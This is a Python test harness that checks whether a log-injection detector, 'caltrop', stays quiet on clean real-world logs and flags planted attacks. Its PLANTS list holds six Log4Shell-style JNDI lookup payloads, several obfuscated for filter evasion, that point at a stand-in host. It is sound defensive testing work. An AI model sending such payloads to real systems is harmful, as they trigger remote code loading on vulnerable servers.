#!/usr/bin/env python3
"""Real logs from outside the repository: check-corpora.py --caltrop PROGRAM DIR

Reads every file below DIR/logs (or DIR when it has no logs folder). Two questions of each:
 * Quiet: does detect report anything? Each report is printed for a person to look at, and counts as a failure unless the
   log really was attacked: list such files, one path per line relative to DIR, in DIR/attacked.txt.
 * Awake: with an attack planted in place of a random word of some lines, does detect report exactly those lines?
Version vectors, ranges and OSV records are for tools/corpora/versions.py, two sources side by side for tools/corpora/store.py,
bills of materials and what vendors say for tools/corpora/documents.py, where --tools has the tests' programs.
Prints N passed, N failed, N skipped. Nothing is written below DIR.
"""
import argparse
import bz2
import gzip
import json
import lzma
import pathlib
import random
import subprocess
import sys
import tempfile

from corpora import documents, store, versions

OPENERS = {".gz": gzip.open, ".bz2": bz2.open, ".xz": lzma.open}
PLANTS = ["${jndi:ldap://probe.example/a}", "${${lower:j}ndi:rmi://probe.example/a}", "%24%7Bjndi:dns://probe.example/a%7D",
          "${${::-j}${::-n}di:ldap://probe.example/a}", "\\x24{jndi:ldap://probe.example/a}", "&#36;{jndi:ldap://probe.example/a}"]


def detect(caltrop, path):
    done = subprocess.run([caltrop, "detect", "-q", "--json", path], capture_output=True, check=False)
    if done.returncode not in (0, 1):
        raise RuntimeError(f"exit status {done.returncode}: {done.stderr.decode(errors='replace').strip()[-300:]}")
    return [json.loads(line) for line in done.stdout.splitlines()]


def plant(lines, rng):
    """Attacks in about one line of ten, at most 400; the line numbers, from 1, of those that hold one."""
    chosen = sorted(rng.sample(range(len(lines)), min(400, max(1, len(lines) // 10))))
    kept = []
    for i in chosen:
        words = lines[i].split(b" ")
        at = rng.randrange(len(words))
        before = words[at]
        # Only the word's own bytes change, so that quotes and brackets around it keep the line's shape.
        core = before.strip(b'"[](){},;:')
        if not core:
            continue
        words[at] = before.replace(core, rng.choice(PLANTS).encode(), 1)
        lines[i] = b" ".join(words)
        kept.append(i + 1)
    return kept


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--caltrop", required=True)
    parser.add_argument("--tools", type=pathlib.Path, help="folder with version_tool and advisory_tool")
    parser.add_argument("--seed", type=int, default=random.SystemRandom().randrange(1 << 32))
    parser.add_argument("corpora")
    args = parser.parse_args()
    root = pathlib.Path(args.corpora)
    if not args.corpora or not root.is_dir():
        print("usage: make check-corpora CORPORA=DIR", file=sys.stderr)
        return 2
    print(f"seed {args.seed}")
    rng = random.Random(args.seed)
    base = root / "logs" if (root / "logs").is_dir() else root
    attacked = set((root / "attacked.txt").read_text().split("\n")) if (root / "attacked.txt").exists() else set()
    passed = failed = skipped = 0
    for path in sorted(p for p in base.rglob("*") if p.is_file()):
        name = str(path.relative_to(root))
        try:
            events = detect(args.caltrop, path)
        except RuntimeError as e:
            print(f"{name}: {e}")
            failed += 1
            continue
        for event in events:
            print(f"{name}:{event.get('caltrop', {}).get('line')}: {json.dumps(event.get('caltrop', {}).get('raw', ''))[:300].replace('$', chr(92) + 'u0024')}")
        if events and name not in attacked:
            print(f"{name}: {len(events)} reported, to be looked at")
            failed += 1
        else:
            passed += 1
        if events or name in attacked:
            continue
        try:
            lines = OPENERS.get(path.suffix, open)(path, "rb").read().split(b"\n")
        except (OSError, EOFError, lzma.LZMAError) as e:
            print(f"{name}: not planted: {e}")
            skipped += 1
            continue
        want = plant(lines, rng)
        with tempfile.NamedTemporaryFile(suffix=".log") as planted:
            planted.write(b"\n".join(lines))
            planted.flush()
            got = sorted({e["caltrop"]["line"] for e in detect(args.caltrop, planted.name)})
        if got == want:
            passed += 1
        else:
            failed += 1
            print(f"{name}: planted but not found, lines {sorted(set(want) - set(got))[:20]}; found but not planted {sorted(set(got) - set(want))[:20]}")
    if args.tools:
        caltrop = pathlib.Path(args.caltrop).resolve()
        for counts in (versions.run(root, args.tools, print), store.run(root, args.tools, caltrop, print), documents.run(root, args.tools, caltrop, args.tools.resolve().parent, print)):
            passed, failed, skipped = (a + b for a, b in zip((passed, failed, skipped), counts))
    print(f"{passed} passed, {failed} failed, {skipped} skipped")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
